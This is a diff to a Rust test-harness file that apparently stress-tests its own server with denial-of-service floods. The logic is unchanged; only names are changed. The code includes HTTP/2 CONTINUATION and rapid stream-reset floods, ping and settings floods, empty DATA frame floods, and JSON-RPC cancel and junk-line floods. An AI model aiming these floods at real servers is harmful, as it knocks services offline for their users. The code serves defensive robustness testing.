@@ -3,72 +3,72 @@
 use std::collections::BTreeMap;
 
 use crate::attack::{Attack, Target, on_server};
-use crate::frames::{self, RawHttp2, frame};
-use crate::http1::{self, Http1, Session};
-use crate::lines::LineWire;
+use crate::http1::{self, RawHttp1, RawSession};
+use crate::line_wire::LineWire;
+use crate::raw_http2::{self, RawHttp2, frame};
 use crate::rpc;
 
 pub(crate) fn attacks() -> Vec<Attack> {
     on_server![
-        "B" Default a_header_block_of_http2_is_continued_without_end,
-        "B" Default streams_of_http2_are_begun_and_reset,
-        "B" Default pings_of_http2_and_nothing_is_read,
-        "B" Default settings_of_http2_and_nothing_is_read,
-        "B" Default data_frames_of_no_length_on_one_stream,
+        "B" Default an_http2_header_block_with_endless_continuation_frames,
+        "B" Default http2_streams_are_opened_and_reset,
+        "B" Default http2_pings_without_reading,
+        "B" Default http2_settings_without_reading,
+        "B" Default empty_data_frames_on_one_stream,
         "B" Default a_hundred_thousand_cancels_of_unknown_requests_over_lines,
         "B" Default cancels_of_unknown_requests_in_a_session,
-        "B" Default answers_that_were_not_asked_for_over_lines,
-        "B" Default a_hundred_thousand_lines_that_are_not_json_and_nothing_is_read,
+        "B" Default unsolicited_responses_over_lines,
+        "B" Default a_hundred_thousand_lines_that_are_not_json_without_reading,
     ]
     .to_vec()
 }
 
-async fn a_header_block_of_http2_is_continued_without_end(
+async fn an_http2_header_block_with_endless_continuation_frames(
     target: Target,
 ) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
-    let first = frame(frames::HEADERS, 0, 1, &frames::call("echo"));
-    let field = frames::block(&[("x", "y")]).repeat(200);
-    let more = (0..100_000).map(|_| frame(frames::CONTINUATION, 0, 1, &field));
+    let first = frame(raw_http2::HEADERS, 0, 1, &raw_http2::call("echo"));
+    let field = raw_http2::block(&[("x", "y")]).repeat(200);
+    let more = (0..100_000).map(|_| frame(raw_http2::CONTINUATION, 0, 1, &field));
     Ok(raw.flood([first].into_iter().chain(more)).await)
 }
 
-async fn streams_of_http2_are_begun_and_reset(target: Target) -> Result<String, String> {
+async fn http2_streams_are_opened_and_reset(target: Target) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
-    let block = frames::call("slow");
+    let block = raw_http2::call("slow");
     let streams = (0..50_000_u32).flat_map(|number| {
         let stream = number * 2 + 1;
         [
-            frame(frames::HEADERS, frames::END_HEADERS, stream, &block),
-            frame(frames::RST_STREAM, 0, stream, &[0, 0, 0, 8]),
+            frame(raw_http2::HEADERS, raw_http2::END_HEADERS, stream, &block),
+            frame(raw_http2::RST_STREAM, 0, stream, &[0, 0, 0, 8]),
         ]
     });
     Ok(raw.flood(streams).await)
 }
 
-async fn pings_of_http2_and_nothing_is_read(target: Target) -> Result<String, String> {
+async fn http2_pings_without_reading(target: Target) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
-    let pings = (0..500_000_u64).map(|number| frame(frames::PING, 0, 0, &number.to_be_bytes()));
+    let pings = (0..500_000_u64).map(|number| frame(raw_http2::PING, 0, 0, &number.to_be_bytes()));
     Ok(raw.flood(pings).await)
 }
 
-async fn settings_of_http2_and_nothing_is_read(target: Target) -> Result<String, String> {
+async fn http2_settings_without_reading(target: Target) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
     let setting = [0, 4, 0, 0, 255, 255];
-    let settings = (0..500_000).map(|_| frame(frames::SETTINGS, 0, 0, &setting));
+    let settings = (0..500_000).map(|_| frame(raw_http2::SETTINGS, 0, 0, &setting));
     Ok(raw.flood(settings).await)
 }
 
-async fn data_frames_of_no_length_on_one_stream(target: Target) -> Result<String, String> {
+async fn empty_data_frames_on_one_stream(target: Target) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
     let head = frame(
-        frames::HEADERS,
-        frames::END_HEADERS,
+        raw_http2::HEADERS,
+        raw_http2::END_HEADERS,
         1,
-        &frames::call("echo"),
+        &raw_http2::call("echo"),
     );
-    let data = (0..500_000).map(|_| frame(frames::DATA, 0, 1, &[]));
-    let last = frame(frames::DATA, frames::END_STREAM, 1, &[]);
+    let data = (0..500_000).map(|_| frame(raw_http2::DATA, 0, 1, &[]));
+    let last = frame(raw_http2::DATA, raw_http2::END_STREAM, 1, &[]);
     Ok(raw
         .flood([head].into_iter().chain(data).chain([last]))
         .await)
@@ -86,7 +86,7 @@ async fn a_hundred_thousand_cancels_of_unknown_requests_over_lines(
 }
 
 async fn cancels_of_unknown_requests_in_a_session(target: Target) -> Result<String, String> {
-    let mut session = Session::open(target.http, rpc::LEGACY)
+    let mut session = RawSession::open(target.http, rpc::LEGACY)
         .await
         .map_err(text)?;
     let headers = session.headers();
@@ -108,7 +108,7 @@ fn cancel(number: usize, padding: &str) -> String {
     format!(r#"{{"jsonrpc":"2.0","method":"notifications/cancelled","params":{params}}}"#)
 }
 
-async fn answers_that_were_not_asked_for_over_lines(target: Target) -> Result<String, String> {
+async fn unsolicited_responses_over_lines(target: Target) -> Result<String, String> {
     let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
     let padding = "x".repeat(1000);
     let answers = (0..100_000).map(|id| {
@@ -117,14 +117,14 @@ async fn answers_that_were_not_asked_for_over_lines(target: Target) -> Result<St
     Ok(wire.flood(answers).await.to_string())
 }
 
-async fn a_hundred_thousand_lines_that_are_not_json_and_nothing_is_read(
+async fn a_hundred_thousand_lines_that_are_not_json_without_reading(
     target: Target,
 ) -> Result<String, String> {
     let mut wire = LineWire::connect(target.lines).await.map_err(text)?;
     let flood = wire
         .flood((0..100_000).map(|_| "not JSON at all ".repeat(60)))
         .await;
-    let mut http = Http1::connect(target.http).await.map_err(text)?;
+    let mut http = RawHttp1::connect(target.http).await.map_err(text)?;
     let answer = http.post(&[], "{").await.map_err(text)?;
     Ok(format!("{flood}; over HTTP {}", answer.status))
 }
